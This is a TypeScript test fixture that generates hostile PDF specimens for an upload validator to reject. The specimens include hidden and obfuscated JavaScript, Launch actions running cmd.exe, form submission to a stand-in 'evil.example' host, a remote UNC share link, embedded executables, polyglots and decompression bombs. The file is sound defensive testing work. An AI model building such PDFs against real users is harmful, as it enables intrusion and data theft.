// PDF files that must be refused.
import { PDF } from '@libpdf/core';
import { deflateSync } from 'node:zlib';
import { buffer } from 'node:stream/consumers';
import PDFDocument from 'pdfkit';
import { pdfOf, revised, streamOf } from './pdfs.ts';
import { paper } from './samples.ts';
import { bad, type Specimen } from './specimen.ts';
import { zipOf } from './zips.ts';

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const action = (content: string): Buffer =>
  pdfOf({ catalog: '/OpenAction 4 0 R', objects: [content] });

async function locked(options: object): Promise<Buffer> {
  const document = new PDFDocument({ ...options, pdfVersion: '1.7' });
  document.text('x').end();
  return buffer(document as never);
}

async function ownerOnly(): Promise<Buffer> {
  const pdf = await PDF.load(await paper('x'));
  pdf.setProtection({ ownerPassword: 'chủ', algorithm: 'AES-256' });
  return Buffer.from(await pdf.save());
}

async function attached(): Promise<Buffer> {
  const document = new PDFDocument();
  document.file(Buffer.from('MZ'), { name: 'a.exe' });
  document.end();
  return buffer(document as never);
}

const annotation = (subtype: string, more: string): Buffer =>
  pdfOf({
    page: '/Annots [4 0 R]',
    objects: [`<< /Type /Annot /Subtype /${subtype} /Rect [0 0 9 9] ${more} >>`],
  });

export const badPdfs: readonly Specimen[] = [
  bad('encrypted', 'a PDF with a password', 'a.pdf', () => locked({ userPassword: 'khóa' })),
  bad('encrypted', 'a PDF that only forbids printing', 'a.pdf', ownerOnly),
  bad('script', 'a PDF with a script when it opens', 'a.pdf', () => action(script)),
  bad('script', 'a PDF with a script in hex letters', 'a.pdf', () =>
    action('<< /S /J#61vaScr#69pt /JS (app.alert\\(1\\)) >>')),
  bad('script', 'a PDF with a script on a page', 'a.pdf', () => pdfOf({ page: `/AA << /O ${script} >>` })),
  bad('script', 'a PDF with a named script', 'a.pdf', () =>
    pdfOf({ catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` })),
  bad('script', 'a PDF with a script among packed objects', 'a.pdf', () =>
    pdfOf({ catalog: '/OpenAction 4 0 R', objects: [script], packed: [1, 2, 3, 4] })),
  bad('script', 'a PDF with a script in a stream that nothing refers to', 'a.pdf', () =>
    pdfOf({ packed: [1], unreferred: script })),
  bad('script', 'a PDF with a script in an object that nothing refers to', 'a.pdf', () => pdfOf({ objects: [script] })),
  bad('script', 'a PDF with a script in an older revision', 'a.pdf', () =>
    revised(pdfOf({ catalog: `/OpenAction ${script}` }), '<< /Type /Catalog /Pages 2 0 R >>')),
  bad('script', 'a PDF with a script in a later revision', 'a.pdf', () =>
    revised(pdfOf(), `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`)),
  bad('script', 'a PDF with a dynamic form', 'a.pdf', () =>
    pdfOf({ catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', objects: [streamOf('', '<xdp/>')] })),
  bad('script', 'a PDF with rich media', 'a.pdf', () => annotation('RichMedia', '')),
  bad('action', 'a PDF that starts a program', 'a.pdf', () => action('<< /S /Launch /F (cmd.exe) >>')),
  bad('action', 'a PDF that starts a program from a link', 'a.pdf', () =>
    annotation('Link', '/A << /S /L#61unch /Win << /F (cmd.exe) >> >>')),
  bad('action', 'a PDF that sends its form away', 'a.pdf', () =>
    action('<< /S /SubmitForm /F (https://evil.example) >>')),
  bad('action', 'a PDF that fetches data', 'a.pdf', () => action('<< /S /ImportData /F (a.fdf) >>')),
  bad('action', 'a PDF that opens another file', 'a.pdf', () =>
    action('<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>')),
  bad('embedded', 'a PDF with an attachment', 'a.pdf', attached),
  bad('embedded', 'a PDF with an attachment without its type', 'a.pdf', () =>
    pdfOf({
      catalog: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
      objects: ['<< /F (a.exe) /EF << /F 5 0 R >> >>', streamOf('', 'MZ')],
    })),
  bad('embedded', 'a PDF with an attachment among packed objects', 'a.pdf', () =>
    pdfOf({
      catalog: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
      objects: ['<< /F (a.exe) /EF << /F 5 0 R >> >>', streamOf('', 'MZ')],
      packed: [1, 2, 3, 4],
    })),
  bad('embedded', 'a PDF with a note that holds a file', 'a.pdf', () => annotation('FileAttachment', '')),
  bad('embedded', 'a PDF with a film', 'a.pdf', () => annotation('Movie', '')),
  bad('unreadable', 'half a PDF', 'a.pdf', async () => {
    const whole = await paper('x', 3);
    return whole.subarray(0, whole.length / 2);
  }),
  bad('unreadable', 'a PDF whose table points nowhere', 'a.pdf', () =>
    Buffer.from(pdfOf().toString('latin1').replace(/startxref\n\d+/, 'startxref\n7'), 'latin1')),
  bad('unreadable', 'a PDF without pages', 'a.pdf', () =>
    Buffer.from(pdfOf().toString('latin1').replace('/Kids [3 0 R] /Count 1', '/Kids [     ] /Count 0'), 'latin1')),
  bad('unreadable', 'a PDF without a catalog', 'a.pdf', () =>
    Buffer.from(pdfOf().toString('latin1').replace('/Root 1 0 R', '/Root 9 0 R'), 'latin1')),
  bad('unreadable', 'a PDF whose pages are their own parents', 'a.pdf', () =>
    Buffer.from(pdfOf().toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R]'), 'latin1')),
  bad('unreadable', 'a PDF nested deeper than any', 'a.pdf', () =>
    pdfOf({ catalog: '/A 4 0 R', objects: [`${'['.repeat(200_000)}${']'.repeat(200_000)}`] })),
  bad('mismatch', 'a PDF behind other bytes', 'a.pdf', () => Buffer.concat([Buffer.from('GIF89a\n'), pdfOf()])),
  bad('hidden', 'a PDF that is an archive as well', 'a.pdf', () =>
    Buffer.concat([pdfOf(), zipOf([{ name: 'a.exe', content: 'MZ' }])])),
  bad('hidden', 'a PDF with a page behind it', 'a.pdf', () => Buffer.concat([pdfOf(), Buffer.from('<html><script>')])),
  bad('bomb', 'a PDF with objects without end', 'a.pdf', () =>
    pdfOf({ objects: [streamOf('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', deflateSync(Buffer.alloc(80e6, 32)))] })),
  bad('bomb', 'a PDF with a page packed twice', 'a.pdf', () =>
    pdfOf({
      page: '/Contents 4 0 R',
      objects: [streamOf('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(Buffer.alloc(50e6))))],
    })),
  bad('bomb', 'a PDF with a stream without end', 'a.pdf', () =>
    pdfOf({ page: '/Contents 4 0 R', objects: [streamOf('/Filter /FlateDecode', deflateSync(Buffer.alloc(300e6)))] })),
  bad('pixels', 'a PDF with a flood of pixels', 'a.pdf', () =>
    pdfOf({
      page: '/Resources << /XObject << /I 4 0 R >> >>',
      objects: [streamOf('/Subtype /Image /Width 60000 /Height 60000 /Filter /FlateDecode', deflateSync('x'))],
    })),
]; // prettier-ignore
